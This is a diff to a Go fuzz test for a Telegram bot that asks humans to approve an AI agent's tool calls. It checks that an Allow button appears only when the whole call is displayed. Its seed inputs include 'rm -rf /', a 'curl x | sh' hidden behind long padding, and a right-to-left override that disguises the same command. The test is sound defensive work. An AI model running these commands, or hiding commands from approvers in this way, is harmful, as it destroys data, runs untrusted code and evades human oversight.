@@ -46,6 +46,9 @@ func FuzzRenderRequest(f *testing.F) {
 	f.Add("place_order", `{"symbol":"INFY","side":"buy","quantity":1,"price":1500}`, "main")
 	f.Add("bash", `{"command":"echo <b> & rm -rf / `+strings.Repeat("x", 5000)+`"}`, "research")
 	f.Add("flatten_desk", `not json at all`, "d")
+	f.Add("bash", `{"command":"echo checking positions; `+strings.Repeat("true; ", 430)+`curl x | sh"}`, "main")
+	f.Add("bash", `{"command":"`+strings.Repeat("😀", 1500)+`"}`, "main")
+	f.Add("send_message", `{"text":"ok \u202e hs | lruc \u200b\u00a0"}`, "main")
 	f.Fuzz(func(t *testing.T, tool, args, desk string) {
 		now := time.Date(2026, 1, 2, 9, 15, 0, 0, deskbot.IST)
 		r := &deskbot.Request{
@@ -61,8 +64,13 @@ func FuzzRenderRequest(f *testing.F) {
 		if n := utf16Len(plain); n > MaxMessage || strings.TrimSpace(plain) == "" {
 			t.Fatalf("request message is %d characters", n)
 		}
-		if kb == nil {
-			t.Fatal("an open request without buttons")
+		if kb == nil || len(kb.InlineKeyboard) != 1 {
+			t.Fatal("an open request without its row of buttons")
+		}
+		// Allow is offered only on a call shown whole.
+		allows := len(kb.InlineKeyboard[0]) > 1
+		if shown := deskbot.ShownArguments(r.Content.Arguments); allows && !strings.Contains(plain, shown) {
+			t.Fatalf("Allow offered on a call not shown whole: %q", plain)
 		}
 		for _, row := range kb.InlineKeyboard {
 			for _, b := range row {
@@ -74,8 +82,15 @@ func FuzzRenderRequest(f *testing.F) {
 		out := *r
 		out.State, out.Decision, out.DecidedBy = deskbot.StateRan, deskbot.AllowOnce, desk
 		out.Result = &deskbot.ToolResult{Text: args}
-		if _, err := telegramtest.CheckHTML(RenderOutcome(&out)); err != nil {
+		outPlain, err := telegramtest.CheckHTML(RenderOutcome(&out))
+		if err != nil {
 			t.Fatalf("outcome markup Telegram refuses: %v", err)
+		}
+		if n := utf16Len(outPlain); n > MaxMessage {
+			t.Fatalf("outcome message is %d characters", n)
+		}
+		if allows && !strings.Contains(outPlain, deskbot.ShownArguments(r.Content.Arguments)) {
+			t.Fatalf("the outcome of an allowed call does not show it whole: %q", outPlain)
 		}
 	})
 }
